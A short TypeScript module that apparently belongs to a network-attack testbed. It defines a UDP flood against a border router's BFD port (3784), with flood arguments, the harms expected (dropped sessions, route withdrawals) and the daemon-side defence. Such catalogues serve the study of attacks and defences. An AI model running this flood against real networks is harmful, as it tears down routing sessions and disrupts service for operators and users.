import type { Attack } from '../attack';
import { flood } from './flood';

/** Bytes of a datagram: those of a BFD packet. */
const bytes = '24';

/** What a routing daemon must read of strangers it cannot read of neighbors. */
export const udpFlood: Attack = {
  name: 'udp-flood',
  summary: 'floods the BFD port of the border with datagrams',
  origins: ['host'],
  attacked: 'the BFD daemon of the border, whose sessions end when it hears nothing in time',
  scene: 'served',
  harms: ['sessions', 'withdrawals', 'slower'],
  defence: { inside: 'the BFD daemon, which throws away what is of no session' },
  ...flood(10_000, ({ gateway }) => ['--udp', '-p', '3784', '-k', '-d', bytes, '-t', '255', gateway]),
};
